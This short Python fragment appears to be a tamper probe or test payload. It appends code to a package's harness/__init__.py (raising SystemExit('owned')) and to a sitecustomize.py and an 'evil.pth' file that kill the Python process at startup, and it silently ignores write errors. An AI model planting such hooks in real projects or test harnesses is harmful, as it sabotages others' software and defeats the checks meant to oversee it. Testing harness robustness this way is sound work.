import os

for path, content in ((os.path.join(T["pkg"], "harness", "__init__.py"), "\nraise SystemExit('owned')\n"),
                      (os.path.join(T["pkg"], "sitecustomize.py"), "import os; os._exit(3)\n"),
                      (os.path.join(T["pkg"], "evil.pth"), "import os; os._exit(3)\n")):
    try:
        with open(path, "a") as target:
            target.write(content)
    except OSError:
        pass
